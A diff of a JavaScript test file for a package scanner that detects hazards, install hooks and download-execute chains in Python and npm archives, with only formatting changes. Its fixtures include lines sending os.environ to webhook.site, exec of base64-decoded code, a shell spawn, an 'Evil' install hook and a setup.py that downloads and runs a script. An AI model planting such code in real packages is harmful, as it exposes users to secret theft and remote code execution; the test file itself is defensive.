@@ -226,7 +226,7 @@ describe('Python capabilities (tokenizer)', () => {
       '"""Docs: os.system("rm -rf") is not called."""',
       '# exec(base64.b64decode(x))',
       "exec(base64.b64decode('cHJpbnQoMSk='))",
-      "data = dict(os.environ)",
+      'data = dict(os.environ)',
       "urlopen('https://webhook.site/abc', data=str(data).encode())",
       "subprocess.Popen(['sh', '-c', 'id'])",
       'setup(name="x", cmdclass={"install": Evil})',
@@ -295,7 +295,10 @@ describe('inspectArchive', () => {
   });
 
   it('a healthy package: no hazard, no hook, no chain', () => {
-    const bytes = npmTarball({ 'package.json': JSON.stringify({ name: 'ok', version: '1.0.0', main: 'index.js' }), 'index.js': 'module.exports = (a, b) => a + b;\n' });
+    const bytes = npmTarball({
+      'package.json': JSON.stringify({ name: 'ok', version: '1.0.0', main: 'index.js' }),
+      'index.js': 'module.exports = (a, b) => a + b;\n',
+    });
     const r = inspectArchive('npm-tarball', bytes);
     assert.deepEqual([r.hazards, r.installHooks, r.chains], [[], [], []]);
     assert.equal(r.files, 2);
@@ -311,7 +314,10 @@ describe('inspectArchive', () => {
     assert.ok(w.chains.some((c) => c.kind === 'download-execute' && c.installTime));
 
     const sdist = tgz([
-      { path: 'x-1.0/setup.py', content: "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/a.sh', 'a.sh')\nsubprocess.call(['sh', 'a.sh'])\n" },
+      {
+        path: 'x-1.0/setup.py',
+        content: "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/a.sh', 'a.sh')\nsubprocess.call(['sh', 'a.sh'])\n",
+      },
     ]);
     const s = inspectArchive('sdist-tar', sdist);
     assert.deepEqual(
